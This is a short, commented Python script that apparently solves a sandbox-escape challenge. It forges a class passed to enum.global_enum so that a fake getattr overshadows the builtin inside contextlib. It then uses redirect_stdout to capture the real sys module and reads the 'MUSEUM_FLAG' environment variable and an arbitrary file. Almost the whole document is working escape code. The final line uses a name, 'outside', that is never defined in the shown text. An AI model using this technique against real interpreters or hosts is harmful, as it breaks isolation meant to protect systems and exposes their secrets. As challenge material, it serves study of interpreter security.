# A library function is given a false getattr: a builtin can be overshadowed in the globals of a
# module, and then the library hands us what it works with.
from contextlib import redirect_stdout
from enum import global_enum

seen = []


def spy(thing, name):
    # What contextlib wanted to know is answered, so that nobody notices.
    seen.append(thing)
    return thing.stdout


# global_enum exports the members of an enumeration into the module that the class says it is
# from. It believes the class, and it looks at no value.
false = type("False", (), {"__module__": "contextlib", "__members__": {"getattr": spy}})
global_enum(false)

# In contextlib a global name getattr now stands before the builtin. redirect_stdout calls
# getattr(sys, "stdout") to remember where the output went: sys is handed to the spy.
with redirect_stdout(None):
    pass

sys = seen[0]
print(sys.modules["os"].environ["MUSEUM_FLAG"])
print(sys.modules["builtins"].open(outside["file"]).read())
